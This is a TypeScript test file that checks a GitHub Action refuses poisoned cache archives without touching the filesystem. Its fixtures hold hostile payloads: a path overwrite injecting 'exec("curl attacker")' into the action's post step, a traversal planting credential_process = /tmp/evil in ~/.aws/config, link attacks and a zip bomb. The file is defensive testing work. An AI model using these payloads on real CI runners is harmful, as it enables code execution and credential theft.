// Poisoned cache entries (issue #12): whoever can write the repository's Actions cache (a
// pull_request_target job on the default branch, a compromised dependency) can plant an entry
// under the action's key prefix, which anyone can derive from the source. @actions/cache would
// extract its archive with `tar -xf … -P` before the action saw a byte. Each entry here is
// planted directly into the fake service, with the version the action looks up, and restored by
// restoreRegistration: in this process (in-process.ts), and for the other protocols in a process
// of its own as the action runs it, which also shows @actions/cache is never loaded. Every time: the sandbox
// (HOME, the workspace, a file standing for the action's own dist/post/index.js, ~/.aws/config)
// is byte for byte as before, there is exactly one warning, and no registration is returned, so
// the caller registers a fresh client.
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { randomBytes } from 'node:crypto'
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { cacheVersion, compressionMethodOfThisRunner } from '../../src/registration/cache-version.js'
import { MAX_ARCHIVE_BYTES, MAX_ENTRY_FILE_BYTES, MAX_TAR_BYTES } from '../../src/registration/entry-archive.js'
import { startCacheService, type BlobHost, type CacheProtocol, type FakeCacheService } from '../fakes/cache-service.js'
import { expectMaskedBeforeUse, findSecretLeaks } from '../harness/secrets.js'
import { freshRegistration } from '../support/registrations.js'
import { loadInProcessCache } from './in-process.js'
import { cacheOptions, createSandbox, runDriver, snapshotTree, type Sandbox } from './support.js'
import { libraryShapedTar, systemTar, tarArchive, tarMember, zstd } from './tar-builder.js'

// Before anything imports src/registration/key.ts: os.homedir() is the sandbox's from here on.
const runInProcess = await loadInProcessCache()
const { REGISTRATION_CACHE_PATH, registrationKeyPrefix } = await import('../../src/registration/key.js')

/** The registration file's name in an archive saved on this layout (HOME/work/repo/repo). */
const ARCHIVED_NAME = '../../../.aws-sso-device-auth-registration.json'
/** Where a runner keeps the action's own code, relative to HOME: its post step runs this file. */
const POST_STEP = 'work/_actions/octo/aws-sso-device-auth/v1/dist/post/index.js'

interface Poison {
  what: string
  /** The archive as uploaded (compressed), made for this sandbox. */
  archive(sandbox: Sandbox): Buffer
  /** What the warning names as the reason. */
  reason: RegExp
}

/** A well-formed registration document: every refusal below is for the archive's shape alone. */
function document(): string {
  return JSON.stringify({ format: 'aws-sso-device-auth/registration', version: 1, registration: freshRegistration() })
}

const poisons: Poison[] = [
  {
    what: "an absolute path over the action's own dist/post/index.js",
    archive: (sandbox) => zstd(libraryShapedTar(join(sandbox.home, POST_STEP), 'require("child_process").exec("curl attacker")')),
    reason: /the archive holds a file other than the registration/
  },
  {
    what: 'a ../ traversal to ~/.aws/config',
    archive: () => zstd(libraryShapedTar('../../../.aws/config', '[default]\ncredential_process = /tmp/evil\n')),
    reason: /the archive holds a file other than the registration/
  },
  {
    what: 'a symbolic link named as the registration file, pointing to ~/.aws/config (system tar)',
    archive: (sandbox) =>
      zstd(
        systemTar(
          (dir) => {
            mkdirSync(join(dir, 'work', 'repo', 'repo'), { recursive: true })
            symlinkSync(join(sandbox.home, '.aws', 'config'), join(dir, '.aws-sso-device-auth-registration.json'))
          },
          [ARCHIVED_NAME],
          'work/repo/repo'
        )
      ),
    reason: /symbolic link/
  },
  {
    what: 'a hard link named as the registration file, to ~/.aws/config',
    archive: () => zstd(tarArchive(tarMember({ name: ARCHIVED_NAME, type: '1', linkname: '../../../.aws/config' }))),
    reason: /hard link/
  },
  {
    what: 'a directory named as the registration file (system tar)',
    archive: () =>
      zstd(
        systemTar(
          (dir) => {
            mkdirSync(join(dir, 'work', 'repo', 'repo'), { recursive: true })
            mkdirSync(join(dir, '.aws-sso-device-auth-registration.json'))
          },
          [ARCHIVED_NAME],
          'work/repo/repo'
        )
      ),
    reason: /directory/
  },
  {
    what: 'a character device named as the registration file',
    archive: () => zstd(tarArchive(tarMember({ name: ARCHIVED_NAME, type: '3' }))),
    reason: /device/
  },
  {
    what: "two members: the registration and the action's dist/post/index.js (system tar)",
    archive: () =>
      zstd(
        systemTar(
          (dir) => {
            mkdirSync(join(dir, 'work', 'repo', 'repo'), { recursive: true })
            mkdirSync(join(dir, dirname(POST_STEP)), { recursive: true })
            writeFileSync(join(dir, '.aws-sso-device-auth-registration.json'), document())
            writeFileSync(join(dir, POST_STEP), 'evil()')
          },
          [ARCHIVED_NAME, `../../../${POST_STEP}`],
          'work/repo/repo'
        )
      ),
    reason: /more than one member/
  },
  {
    what: 'a huge member',
    archive: () => zstd(libraryShapedTar(ARCHIVED_NAME, 'x'.repeat(4 * MAX_ENTRY_FILE_BYTES))),
    reason: new RegExp(`the file member is larger than ${MAX_ENTRY_FILE_BYTES} bytes`)
  },
  {
    what: 'a bad header checksum',
    archive: () => zstd(tarArchive(tarMember({ name: ARCHIVED_NAME, content: document(), checksumOffset: 7 }))),
    reason: /checksum does not match/
  },
  {
    what: 'a zip bomb (a few KB that decompress to 64 MiB)',
    archive: () => zstd(tarArchive(tarMember({ name: ARCHIVED_NAME, content: Buffer.alloc(64 * 1024 * 1024) }))),
    reason: new RegExp(`decompresses to more than ${MAX_TAR_BYTES} bytes`)
  },
  {
    what: 'an archive larger than the download bound',
    archive: () => randomBytes(2 * MAX_ARCHIVE_BYTES),
    reason: new RegExp(`the archive is larger than ${MAX_ARCHIVE_BYTES} bytes`)
  }
]

interface PoisonWorld {
  fake: FakeCacheService
  sandbox: Sandbox
  key: string
}

/** A fake service, a sandbox with the files an attacker would aim at, and the key a poisoned entry takes. */
async function poisonWorld(protocol: CacheProtocol, blobHost?: BlobHost): Promise<PoisonWorld> {
  const fake = await startCacheService({ protocol, ...(blobHost ? { blobHost } : {}) })
  const sandbox = createSandbox()
  mkdirSync(join(sandbox.home, dirname(POST_STEP)), { recursive: true })
  writeFileSync(join(sandbox.home, POST_STEP), '// the action: its post step revokes the token\n')
  mkdirSync(join(sandbox.home, '.aws'))
  writeFileSync(join(sandbox.home, '.aws', 'config'), '[profile ci]\nregion = eu-west-1\n')
  const options = cacheOptions()
  const key = `${registrationKeyPrefix(options, false)}${Math.floor(Date.now() / 1000)}`
  return { fake, sandbox, key }
}

/** Plants `archive` as the newest entry, with the version this runner's restore (and the library) looks up. */
function plant(world: PoisonWorld, archive: Buffer): void {
  // zstd is on PATH here (the system tar tests need it too), so saves carry the zstd-without-long version.
  expect(compressionMethodOfThisRunner()).toBe('zstd-without-long')
  world.fake.seedEntry({ key: world.key, version: cacheVersion([REGISTRATION_CACHE_PATH], 'zstd-without-long'), archive })
}

/** Restored in this process, or in a process of its own (`driver`), which also tells whether @actions/cache was loaded. */
async function expectRefusedUntouched(world: PoisonWorld, reason: RegExp, where: 'in-process' | 'driver' = 'in-process'): Promise<void> {
  const before = snapshotTree(world.sandbox.root)
  const request = { op: 'restore', options: cacheOptions({ restoreTimeoutMs: 30_000 }) } as const
  const env = { ...world.fake.env, ...world.sandbox.env }
  const run = where === 'driver' ? await runDriver(request, env, world.sandbox.workspace) : await runInProcess(request, env, world.sandbox)

  expect(snapshotTree(world.sandbox.root)).toEqual(before)
  expect(run.code).toBe(0)
  expect(run.errors).toEqual([])
  expect(run.stderr).toBe('')
  expect(run.warnings).toHaveLength(1)
  const [warning] = run.warnings
  expect(warning).toMatch(
    new RegExp(`^Ignoring the cached OIDC client registration ${world.key}: the cache entry is not one this action wrote \\(`)
  )
  expect(warning).toMatch(reason)
  expect(warning).toMatch(
    /\); a new client will be registered\. If this repeats, someone may be writing to this repository's Actions cache: see SECURITY\.md\.$/
  )
  expect(run.result).toMatchObject({ found: false, status: 'not-restored' })
  // The library, which would have extracted the archive, is not even loaded.
  if (where === 'driver') expect(run.result).toMatchObject({ libraryLoaded: false })
  // The entry was really looked up and downloaded: the refusal is the reader's, not a miss.
  expect(world.fake.requests.map((request) => request.endpoint).filter(Boolean)).toEqual(['lookup', 'download'])
  // The signed URL is a credential to the blob: masked before anything else, and with it its signature.
  // (v2 URLs carry an expiry of their own issue time, so only the signature is the same in a second lookup.)
  const url = await signedDownloadUrl(world)
  const signature = new URL(url).searchParams.get('sig')!
  expect(run.masks.filter((mask) => mask.startsWith(`${url.split('?')[0]}?`))).toHaveLength(1)
  expectMaskedBeforeUse(run.stdout, signature, 'the signature of the download URL')
  const scanned = { stdout: run.stdout, stderr: run.stderr, summary: '', outputs: {}, env: {}, path: [], state: {} }
  expect(findSecretLeaks(scanned, { runtimeToken: world.fake.token, signature })).toEqual([])
}

/** The signed URL the service hands out for the planted entry (it stays the same for an entry). */
async function signedDownloadUrl({ fake, key }: PoisonWorld): Promise<string> {
  const version = cacheVersion([REGISTRATION_CACHE_PATH], 'zstd-without-long')
  const authorization = `Bearer ${fake.token}`
  if (fake.protocol === 'v2') {
    const response = await fetch(`${fake.url}/twirp/github.actions.results.api.v1.CacheService/GetCacheEntryDownloadURL`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization },
      body: JSON.stringify({ key, version })
    })
    return String(((await response.json()) as { signed_download_url: string }).signed_download_url)
  }
  const response = await fetch(
    `${fake.env.ACTIONS_CACHE_URL}_apis/artifactcache/cache?keys=${encodeURIComponent(key)}&version=${version}`,
    {
      headers: { authorization, accept: 'application/json;api-version=6.0-preview.1' }
    }
  )
  return String(((await response.json()) as { archiveLocation: string }).archiveLocation)
}

describe('a poisoned registration cache entry is refused in memory, the filesystem untouched', () => {
  let world: PoisonWorld

  beforeEach(async () => {
    world = await poisonWorld('v2')
  })

  afterEach(async () => {
    await world.fake.close()
    world.sandbox.dispose()
  })

  it.each(poisons.map((poison) => [poison.what, poison] as const))('%s', async (_what, poison) => {
    plant(world, poison.archive(world.sandbox))
    await expectRefusedUntouched(world, poison.reason)
  })
})

describe.each<[CacheProtocol, BlobHost | undefined]>([
  ['v1', undefined],
  ['v2', 'azure']
])('a poisoned entry over %s (blob host %s) is refused the same way', (protocol, blobHost) => {
  it("an absolute path over the action's own dist/post/index.js", async () => {
    const world = await poisonWorld(protocol, blobHost)
    try {
      plant(world, poisons[0]!.archive(world.sandbox))
      await expectRefusedUntouched(world, poisons[0]!.reason, 'driver')
    } finally {
      await world.fake.close()
      world.sandbox.dispose()
    }
  })
})
